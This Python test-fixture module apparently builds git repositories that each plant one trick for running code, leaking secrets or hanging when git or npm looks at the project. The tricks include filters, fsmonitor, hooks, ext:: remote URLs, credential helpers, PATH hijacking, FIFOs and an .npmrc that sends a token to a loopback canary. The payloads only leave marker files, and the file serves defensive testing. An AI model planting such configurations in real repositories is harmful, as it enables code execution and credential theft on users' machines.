"""Repositories that would run, reach or write something when they are looked at: one attack each.

An attack leaves a mark: a file, or a connection to a server that nobody should ask. `plain` is what a person types to
spring it; a test shows first that the mark is made by that, so that its absence afterwards means something.
"""

import os
import shlex
import shutil
import socketserver
import subprocess
import sys
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from hashlib import sha1
from http.server import BaseHTTPRequestHandler
from pathlib import Path

PACKAGE = '{\n  "name": "widget",\n  "version": "0.7.0"\n}\n'
HANGS_S = 2


class Canary:
    """A server on this machine that counts who comes, and wants a password of everybody."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.lines: list[str] = []
        self.headers: list[str] = []

    @property
    def count(self) -> int:
        return len(self.lines)


@contextmanager
def canary() -> Iterator[Canary]:
    """Serve on loopback."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.lines.append(self.path)
            told.headers.append(str(self.headers))
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="canary"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_CONNECT = do_PUT = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            """Nothing."""

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        told = Canary(server.server_address[1])
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        yield told
        server.shutdown()


@dataclass
class Lab:
    """A project with one commit, and a place for marks beside it."""

    folder: Path
    marks: Path
    canary: Canary
    env: dict[str, str] = field(default_factory=dict)

    def git(self, *argv: str, check: bool = True, cwd: Path | None = None, stdin: bytes = b"") -> str:
        done = subprocess.run(
            ["git", *argv], cwd=cwd or self.folder, capture_output=True, check=check, input=stdin, timeout=60
        )
        return done.stdout.decode("utf-8", "replace").strip()

    def program(self, name: str, body: str = "exec cat") -> str:
        """A program in the project that leaves a mark."""
        path = self.folder / ".evil" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"#!/bin/sh\ntouch {shlex.quote(str(self.marks / name))}\n{body}\n")
        path.chmod(0o755)
        return str(path)

    def set(self, key: str, value: str, *more: str) -> None:
        self.git("config", *more, key, value)

    def write(self, name: str, text: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def commit(self, message: str = "fix: y") -> None:
        self.git("add", "--all", ".")
        self.git("commit", "--quiet", "--allow-empty", "-m", message)

    def touched(self) -> None:
        """Let git look at what is in package.json: it is as long as before."""
        (self.folder / "package.json").write_text(PACKAGE.replace("0.7.0", "0.7.1"))
        os.utime(self.folder / "package.json", (1, 1))

    @property
    def sprung(self) -> list[str]:
        return sorted(path.name for path in self.marks.iterdir())

    def spring(self, command: str) -> None:
        """What a person types, as it is. It may fail, and it may hang."""
        try:
            subprocess.run(
                ["sh", "-c", command],
                cwd=self.folder,
                env={**os.environ, **self.env},
                stdin=subprocess.DEVNULL,
                capture_output=True,
                check=False,
                timeout=HANGS_S if command.startswith("exec ") else 60,
            )
        except subprocess.TimeoutExpired:
            (self.marks / "hang").touch()

    def clear(self) -> None:
        for path in self.marks.iterdir():
            path.unlink()
        self.canary.lines.clear()
        self.canary.headers.clear()


def lab(folder: Path, marks: Path, served: Canary) -> Lab:
    """A fresh project."""
    folder.mkdir(parents=True)
    marks.mkdir(parents=True, exist_ok=True)
    made = Lab(folder, marks, served)
    made.git("init", "--quiet", "--initial-branch=main")
    made.write("package.json", PACKAGE)
    made.write("lib/a.txt", "a\n")
    made.commit("feat: x")
    return made


@dataclass(frozen=True)
class Attack:
    """How it is laid, and what springs it."""

    name: str
    lay: Callable[[Lab], None]
    plain: str
    reached: bool = False
    """`doctor --ship` reaches the address that this names, as git does; what it must not do then is the mark."""


ATTACKS: list[Attack] = []


def _attack(name: str, plain: str, *, reached: bool = False) -> Callable[[Callable[[Lab], None]], None]:
    def add(lay: Callable[[Lab], None]) -> None:
        ATTACKS.append(Attack(name, lay, plain, reached))

    return add


def _attributes(lab: Lab, text: str) -> None:
    lab.write(".gitattributes", text)
    lab.commit()


# --- filters --------------------------------------------------------------------------------------------------------


@_attack("clean filter", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=evil\n")
    lab.set("filter.evil.clean", lab.program("clean"))
    lab.touched()


@_attack("filter process", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=evil\n")
    lab.set("filter.evil.process", lab.program("process", "exit 1"))
    lab.set("filter.evil.required", "true")
    lab.touched()


@_attack("smudge filter", "rm package.json; git checkout -- package.json")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=evil\n")
    lab.set("filter.evil.smudge", lab.program("smudge"))


@_attack("filter called lfs", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=lfs diff=lfs merge=lfs -text\n")
    lab.set("filter.lfs.clean", lab.program("lfs"))
    lab.touched()


@_attack("filter of the person's own, named by the project", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=lfs\n")
    lab.git("config", "--global", "filter.lfs.process", lab.program("global-lfs", "exit 1"))
    lab.touched()


@_attack("filter by info/attributes", "git status")
def _(lab: Lab) -> None:
    lab.write(".git/info/attributes", "[attr]x filter=evil\n* x\n")
    lab.set("filter.evil.clean", lab.program("info"))
    lab.touched()


@_attack("filter by core.attributesFile", "git status")
def _(lab: Lab) -> None:
    lab.set("core.attributesFile", str(lab.write(".evil/attributes", "* filter=evil\n")))
    lab.set("filter.evil.clean", lab.program("attributes-file"))
    lab.touched()


@_attack("filter by an include", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=evil\n")
    lab.set("include.path", "../.evil/config")
    lab.write(".evil/config", f'[filter "evil"]\n\tclean = {lab.program("include")}\n')
    lab.touched()


@_attack("filter by a conditional include", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=evil\n")
    lab.set("includeIf.gitdir:/.path", "../.evil/config")
    lab.write(".evil/config", f'[filter "evil"]\n\tclean = {lab.program("include-if")}\n')
    lab.touched()


@_attack("filter by the configuration of a working tree", "git status")
def _(lab: Lab) -> None:
    _attributes(lab, "* filter=evil\n")
    lab.set("extensions.worktreeConfig", "true")
    lab.set("filter.evil.clean", lab.program("worktree"), "--worktree")
    lab.touched()


# --- what watches, hooks and shows ----------------------------------------------------------------------------------


@_attack("fsmonitor", "git status")
def _(lab: Lab) -> None:
    lab.set("core.fsmonitor", lab.program("fsmonitor", "exit 1"))


@_attack("fsmonitor, whole lines", "git status")
def _(lab: Lab) -> None:
    lab.set("core.fsmonitor", f"{lab.program('fsmonitor')}; : ")
    lab.set("core.fsmonitorHookVersion", "2")


@_attack("hook after the index was written", "touch -d '1 hour ago' lib/a.txt; git status")
def _(lab: Lab) -> None:
    shutil.copy(lab.program("index-hook", "true"), lab.folder / ".git/hooks/post-index-change")


@_attack("hooks elsewhere", "git update-ref refs/heads/other HEAD")
def _(lab: Lab) -> None:
    lab.program("reference-transaction", "true")
    lab.set("core.hooksPath", ".evil")


@_attack("hook of the clean-up", "git gc --auto")
def _(lab: Lab) -> None:
    shutil.copy(lab.program("auto-gc", "true"), lab.folder / ".git/hooks/pre-auto-gc")
    lab.set("gc.auto", "1")
    objects = lab.folder / ".git/objects/17"
    objects.mkdir(exist_ok=True)
    for number in range(4):
        lab.git("hash-object", "-w", "--stdin", stdin=b"%d" % number)
    for each in range(300):
        (objects / f"{each:038x}").write_bytes(b"")


@_attack("pager", f'{sys.executable} -c \'import pty; pty.spawn(["git", "log"])\'')
def _(lab: Lab) -> None:
    lab.set("core.pager", lab.program("pager"))
    lab.set("pager.status", lab.program("pager-status"))


@_attack("external diff", "git diff")
def _(lab: Lab) -> None:
    lab.set("diff.external", lab.program("external", "true"))
    lab.touched()


@_attack("diff driver", "git diff")
def _(lab: Lab) -> None:
    _attributes(lab, "* diff=evil\n")
    lab.set("diff.evil.command", lab.program("driver", "true"))
    lab.touched()


@_attack("text conversion", """git log -G'"version"' -- package.json""")
def _(lab: Lab) -> None:
    _attributes(lab, "* diff=evil\n")
    lab.set("diff.evil.textconv", lab.program("textconv", 'cat "$1"'))
    lab.write("package.json", PACKAGE.replace("0.7.0", "0.7.5"))
    lab.commit()


@_attack("text conversion of the person's own, named by the project", """git log -G'"version"' -- package.json""")
def _(lab: Lab) -> None:
    _attributes(lab, "* diff=evil\n")
    lab.git("config", "--global", "diff.evil.textconv", lab.program("global-textconv", 'cat "$1"'))
    lab.write("package.json", PACKAGE.replace("0.7.0", "0.7.5"))
    lab.commit()


@_attack("program that verifies signatures", "git log")
def _(lab: Lab) -> None:
    head = lab.git("cat-file", "commit", "HEAD")
    before, _, message = head.partition("\n\n")
    signed = f"{before}\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n -----END PGP SIGNATURE-----\n\n{message}\n"
    sha = lab.git("hash-object", "-t", "commit", "-w", "--stdin", stdin=signed.encode())
    lab.git("update-ref", "HEAD", sha)
    lab.set("gpg.program", lab.program("gpg", "exit 1"))
    lab.set("log.showSignature", "true")


@_attack("alias", "git st")
def _(lab: Lab) -> None:
    lab.set("alias.st", f"!{lab.program('alias', 'true')}")
    for name in ("status", "log", "rev-parse", "config", "diff-tree"):
        lab.set(f"alias.{name}", f"!{lab.program('alias-of-builtin', 'true')}")


@_attack("editor", "GIT_EDITOR= EDITOR= VISUAL= TERM=xterm sh -c 'unset GIT_EDITOR; git commit --amend'")
def _(lab: Lab) -> None:
    lab.set("core.editor", lab.program("editor", "true"))
    lab.set("sequence.editor", lab.program("sequence-editor", "true"))


# --- the way to a remote --------------------------------------------------------------------------------------------


def _remote(lab: Lab, url: str) -> None:
    lab.git("remote", "add", "origin", url)
    lab.git("update-ref", "refs/remotes/origin/main", "HEAD")
    lab.set("branch.main.remote", "origin")
    lab.set("branch.main.merge", "refs/heads/main")


def _store(lab: Lab) -> Path:
    """A repository of the project's own beside its files, which is its remote."""
    place = lab.folder / ".evil" / "store.git"
    place.parent.mkdir(exist_ok=True)
    lab.git("clone", "--quiet", "--bare", str(lab.folder), str(place))
    return place


@_attack("ssh command", "git ls-remote origin")
def _(lab: Lab) -> None:
    _remote(lab, "ssh://127.0.0.1:1/x")
    lab.set("core.sshCommand", lab.program("ssh", "exit 1"))


@_attack("git proxy", "git ls-remote origin")
def _(lab: Lab) -> None:
    _remote(lab, "git://127.0.0.1:1/x")
    lab.set("core.gitProxy", lab.program("git-proxy", "exit 1"))


@_attack("http proxy", "git ls-remote origin")
def _(lab: Lab) -> None:
    _remote(lab, "http://192.0.2.1/x")
    lab.set("http.proxy", f"http://127.0.0.1:{lab.canary.port}")


@_attack("proxy of a remote", "git ls-remote origin")
def _(lab: Lab) -> None:
    _remote(lab, "http://192.0.2.1/x")
    lab.set("remote.origin.proxy", f"http://127.0.0.1:{lab.canary.port}")


@_attack("credential helper", "git ls-remote origin", reached=True)
def _(lab: Lab) -> None:
    _remote(lab, f"http://127.0.0.1:{lab.canary.port}/x")
    lab.set("credential.helper", f"!{lab.program('credential', 'true')}")
    lab.set(f"credential.http://127.0.0.1:{lab.canary.port}.helper", lab.program("credential-of", "true"))


@_attack("program that asks for passwords", "git ls-remote origin", reached=True)
def _(lab: Lab) -> None:
    _remote(lab, f"http://127.0.0.1:{lab.canary.port}/x")
    lab.set("core.askPass", lab.program("askpass", "echo x"))


@_attack("address that is a command", "git ls-remote origin")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    lab.set("protocol.allow", "always")
    _remote(lab, f"ext::{lab.program('ext', 'exit 1')}")


@_attack("remote of another kind", "git ls-remote origin")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    _remote(lab, lab.program("vcs", "exit 1"))
    lab.set("remote.origin.vcs", "ext")


@_attack("address that is rewritten", "git ls-remote origin")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    lab.set(f"url.ext::{lab.program('instead', 'exit 1')} .insteadOf", "https://github.com/")
    _remote(lab, "https://github.com/acme/widget")


@_attack("branch whose remote is a command", "git fetch")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    lab.set("branch.main.remote", f"ext::{lab.program('branch-remote', 'exit 1')}")
    lab.set("branch.main.merge", "refs/heads/main")


@_attack("place to push to that is a command", "git push")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    lab.set("remote.pushDefault", f"ext::{lab.program('push-default', 'exit 1')}")
    lab.set("push.default", "current")


@_attack("address to push to that is a command", "git push --dry-run origin HEAD:main")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    _remote(lab, str(_store(lab)))
    lab.set("remote.origin.pushurl", f"ext::{lab.program('pushurl', 'exit 1')}")


@_attack("remote in the old form", "git ls-remote origin")
def _(lab: Lab) -> None:
    lab.set("protocol.ext.allow", "always")
    lab.write(".git/remotes/origin", f"URL: ext::{lab.program('old-form', 'exit 1')}\n")
    lab.set("branch.main.remote", "origin")


@_attack("program at the other end", "git fetch origin")
def _(lab: Lab) -> None:
    _remote(lab, str(_store(lab)))
    lab.set("remote.origin.uploadpack", lab.program("uploadpack", "exit 1"))
    lab.set("remote.origin.receivepack", lab.program("receivepack", "exit 1"))


@_attack("program at the other end of a push", "git push --dry-run origin HEAD:main")
def _(lab: Lab) -> None:
    _remote(lab, str(_store(lab)))
    lab.set("remote.origin.receivepack", lab.program("receivepack", "exit 1"))


@_attack("command for borrowed references", "git fetch origin")
def _(lab: Lab) -> None:
    store = _store(lab)
    _remote(lab, str(store))
    other = store.with_name("other.git")
    shutil.copytree(store, other)
    (lab.folder / ".git/objects/info/alternates").write_text(f"{other / 'objects'}\n")
    lab.set("core.alternateRefsCommand", lab.program("alternates", "true"))
    there = ("--git-dir", str(store))
    lab.git(*there, "update-ref", "refs/heads/main", lab.git(*there, "commit-tree", "-m", "x", "HEAD^{tree}"))


@_attack("remote in the project whose own configuration has a command", "git push --dry-run origin HEAD:main")
def _(lab: Lab) -> None:
    store = _store(lab)
    _remote(lab, "./.evil/store.git")
    other = store.with_name("other.git")
    shutil.copytree(store, other)
    (store / "objects/info/alternates").write_text(f"{other / 'objects'}\n")
    lab.git("--git-dir", str(store), "config", "core.alternateRefsCommand", lab.program("store", "true"))


@_attack("second address to push to, in the project", "git push --dry-run origin HEAD:main")
def _(lab: Lab) -> None:
    store = _store(lab)
    other = store.with_name("other.git")
    shutil.copytree(store, other)
    (store / "objects/info/alternates").write_text(f"{other / 'objects'}\n")
    lab.git("--git-dir", str(store), "config", "core.alternateRefsCommand", lab.program("second", "true"))
    _remote(lab, str(other))
    lab.set("remote.origin.url", str(store), "--add")


@_attack("address that is rewritten twice", "git push --dry-run http://127.0.0.1:1/a HEAD:main")
def _(lab: Lab) -> None:
    store = _store(lab)
    other = store.with_name("other.git")
    shutil.copytree(store, other)
    (store / "objects/info/alternates").write_text(f"{other / 'objects'}\n")
    lab.git("--git-dir", str(store), "config", "core.alternateRefsCommand", lab.program("twice", "true"))
    lab.set("url.http://127.0.0.1:1/a.insteadOf", "https://github.com/acme/widget")
    lab.set(f"url.{store}.insteadOf", "http://127.0.0.1:1/a")
    _remote(lab, "https://github.com/acme/widget")


@_attack("objects that are fetched when they are missed", "git cat-file -p HEAD~:package.json")
def _(lab: Lab) -> None:
    gone = lab.git("rev-parse", "HEAD:package.json")
    lab.write("package.json", PACKAGE.replace("0.7.0", "0.7.5"))
    lab.commit()
    _remote(lab, str(_store(lab)))
    lab.set("remote.origin.uploadpack", lab.program("lazy", "exit 1"))
    lab.set("remote.origin.promisor", "true")
    lab.set("remote.origin.partialclonefilter", "blob:none")
    lab.set("extensions.partialClone", "origin")
    lab.set("core.repositoryformatversion", "1")
    (lab.folder / ".git/objects" / gone[:2] / gone[2:]).unlink()


# --- repositories in other places -----------------------------------------------------------------------------------


@_attack("submodule with a configuration of its own", "git status")
def _(lab: Lab) -> None:
    inner = lab.folder / "inner"
    inner.mkdir()
    lab.git("init", "--quiet", cwd=inner)
    (inner / "x").write_text("x\n")
    lab.git("add", "x", cwd=inner)
    lab.git("commit", "--quiet", "-m", "x", cwd=inner)
    lab.write(".gitmodules", '[submodule "inner"]\n\tpath = inner\n\turl = ./inner\n\tignore = none\n')
    lab.commit()
    lab.git("config", "core.fsmonitor", lab.program("submodule"), cwd=inner)
    (inner / "x").write_text("y\n")


@_attack("submodule whose update is a command", "git submodule update --init; git submodule update")
def _(lab: Lab) -> None:
    lab.write(".gitmodules", '[submodule "inner"]\n\tpath = inner\n\turl = ./.evil/store.git\n')
    _store(lab)
    lab.git("update-index", "--add", "--cacheinfo", f"160000,{lab.git('rev-parse', 'HEAD')},inner")
    lab.git("commit", "--quiet", "-m", "sub")
    lab.set("submodule.inner.url", str(lab.folder / ".evil/store.git"))
    lab.set("submodule.inner.update", f"!{lab.program('update', 'true')}")
    lab.git("-c", "protocol.file.allow=always", "submodule", "update", "--init", "--checkout")
    lab.git("commit-tree", "HEAD^{tree}", "-m", "other", cwd=lab.folder / "inner")
    lab.git("checkout", "--quiet", "--orphan", "other", cwd=lab.folder / "inner")
    lab.git("commit", "--quiet", "-m", "other", cwd=lab.folder / "inner")


@_attack("git folder that a file points to", "git status")
def _(lab: Lab) -> None:
    (lab.folder / ".evil").mkdir()
    (lab.folder / ".git").rename(lab.folder / ".evil/real")
    (lab.folder / ".git").write_text("gitdir: .evil/real\n")
    lab.set("core.fsmonitor", lab.program("gitfile"))


@_attack("git folder that is a link", "git status")
def _(lab: Lab) -> None:
    (lab.folder / ".evil").mkdir()
    (lab.folder / ".git").rename(lab.folder / ".evil/real")
    (lab.folder / ".git").symlink_to(".evil/real")
    lab.set("core.fsmonitor", lab.program("link"))


@_attack("git folder that shares another's", "git status")
def _(lab: Lab) -> None:
    real = lab.folder / ".evil" / "common"
    real.parent.mkdir()
    shutil.copytree(lab.folder / ".git", real)
    (lab.folder / ".git" / "commondir").write_text("../.evil/common\n")
    lab.git("--git-dir", str(real), "config", "core.fsmonitor", lab.program("of-common"))


@_attack("folder that is a repository itself", "git status")
def _(lab: Lab) -> None:
    for path in (lab.folder / ".git").iterdir():
        path.rename(lab.folder / path.name)
    (lab.folder / ".git").rmdir()
    (lab.folder / "config").write_text(
        f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = {lab.program('bare')}\n"
    )


@_attack("working tree elsewhere", "git status")
def _(lab: Lab) -> None:
    elsewhere = lab.folder / ".evil" / "tree"
    elsewhere.mkdir(parents=True)
    lab.set("core.worktree", str(elsewhere))
    lab.set("core.fsmonitor", lab.program("elsewhere"))


# --- what would wait for ever ---------------------------------------------------------------------------------------


@_attack("list of ignored files that is a pipe", "exec git status")
def _(lab: Lab) -> None:
    (lab.folder / ".evil").mkdir()
    os.mkfifo(lab.folder / ".evil/pipe")
    lab.set("core.excludesFile", ".evil/pipe")


@_attack("include that is a pipe", "exec git status")
def _(lab: Lab) -> None:
    (lab.folder / ".evil").mkdir()
    os.mkfifo(lab.folder / ".evil/pipe")
    lab.set("include.path", "../.evil/pipe")


@_attack("reference that is a pipe", "exec git for-each-ref")
def _(lab: Lab) -> None:
    os.mkfifo(lab.folder / ".git/refs/heads/pipe")


@_attack("index that is a pipe", "exec git status")
def _(lab: Lab) -> None:
    (lab.folder / ".git/index").unlink()
    os.mkfifo(lab.folder / ".git/index")


@_attack("configuration that is a pipe", "exec git status")
def _(lab: Lab) -> None:
    (lab.folder / ".git/config").unlink()
    os.mkfifo(lab.folder / ".git/config")


@_attack("shared folder that a pipe names", "exec git status")
def _(lab: Lab) -> None:
    os.mkfifo(lab.folder / ".git/commondir")


@_attack("list of ignored files in a folder that is a pipe", "exec git status")
def _(lab: Lab) -> None:
    (lab.folder / "new").mkdir()
    os.mkfifo(lab.folder / "new/.gitignore")


@_attack("attributes that are a pipe", "exec git status")
def _(lab: Lab) -> None:
    os.mkfifo(lab.folder / "lib/.gitattributes")
    (lab.folder / "lib/a.txt").write_text("b\n")


@_attack("HEAD that is a pipe", "exec git status")
def _(lab: Lab) -> None:
    (lab.folder / ".git/HEAD").unlink()
    os.mkfifo(lab.folder / ".git/HEAD")


@_attack("object that is a pipe", "exec git show HEAD")
def _(lab: Lab) -> None:
    body = b"tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\n\nx\n"
    data = b"commit %d\0%s" % (len(body), body)
    sha = sha1(data, usedforsecurity=False).hexdigest()
    assert zlib.compress(data)
    place = lab.folder / ".git/objects" / sha[:2]
    place.mkdir(exist_ok=True)
    os.mkfifo(place / sha[2:])
    lab.write(".git/refs/heads/main", f"{sha}\n")


# --- what is no git -------------------------------------------------------------------------------------------------


@_attack("program of the project before the real one on PATH", "git status; gh --version")
def _(lab: Lab) -> None:
    for name in ("git", "gh"):
        shutil.copy(lab.program(f"path-{name}", "exit 1"), lab.folder / ".evil" / name)
    lab.env["PATH"] = f".evil:{os.environ['PATH']}"


@_attack("variable that the project's .npmrc sends", "npm view x --fetch-retries=0 --offline=false")
def _(lab: Lab) -> None:
    lab.write(
        ".npmrc", f"registry=http://127.0.0.1:{lab.canary.port}/\n//127.0.0.1:{lab.canary.port}/:_authToken=${{S}}\n"
    )
    lab.env["S"] = "sent-away"


@_attack("package manager that the project names", "yarn --version; pnpm --version; bun --version; corepack x; npm x")
def _(lab: Lab) -> None:
    folder = lab.marks.parent / "programs"
    folder.mkdir(exist_ok=True)
    for name in ("yarn", "pnpm", "bun", "corepack", "npm"):
        program = Path(lab.program(f"runs-{name}", "exit 0"))
        text = program.read_text().replace("touch", 'case $PWD in "/") exit 0;; esac; touch', 1)
        (folder / name).write_text(text)
        (folder / name).chmod(0o755)
    lab.write(".yarnrc.yml", "yarnPath: .evil/yarn.js\n")
    lab.write("package.json", PACKAGE.replace('"version"', '"packageManager": "yarn@4.0.0",\n  "version"'))
    lab.commit()
    lab.env["PATH"] = f"{folder}:{os.environ['PATH']}"
